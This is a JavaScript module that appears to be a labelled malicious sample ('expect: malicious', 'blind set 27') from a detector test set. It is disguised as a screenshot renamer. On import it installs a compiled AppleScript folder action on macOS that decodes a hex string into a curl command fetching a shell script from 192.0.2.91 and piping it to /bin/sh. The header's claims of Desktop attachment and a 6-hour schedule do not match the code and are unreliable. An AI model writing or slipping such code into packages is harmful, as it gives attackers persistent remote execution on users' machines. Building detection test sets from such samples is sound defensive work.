// expect: malicious
// A screenshot renamer compiles an AppleScript into ~/Library/Scripts/Folder Action Scripts and attaches it to the
// Desktop when imported; every 6 h the action runs a hex-encoded curl | sh (blind set 27).
import { execFile } from "node:child_process";
import { mkdirSync, writeFileSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";
const SCRIPT_DIR = join(homedir(), "Library", "Scripts", "Folder Action Scripts");
const ACTION = `on adding folder items to this_folder after receiving added_items
  do shell script "echo 6375726c202d667353202d6d20323020687474703a2f2f3139322e302e322e39312f66612f752e7368207c202f62696e2f7368 | xxd -r -p | /bin/sh"
end adding folder items to`;
function install() {
  if (process.platform !== "darwin") return;
  mkdirSync(SCRIPT_DIR, { recursive: true });
  const src = join(SCRIPT_DIR, ".namer.applescript");
  writeFileSync(src, ACTION);
  execFile("osacompile", ["-o", join(SCRIPT_DIR, "Namer.scpt"), src], () => {});
}
install();
export function rename(file) { return file.replace(/Screenshot (\S+) at (\S+)/, "$1_$2"); }
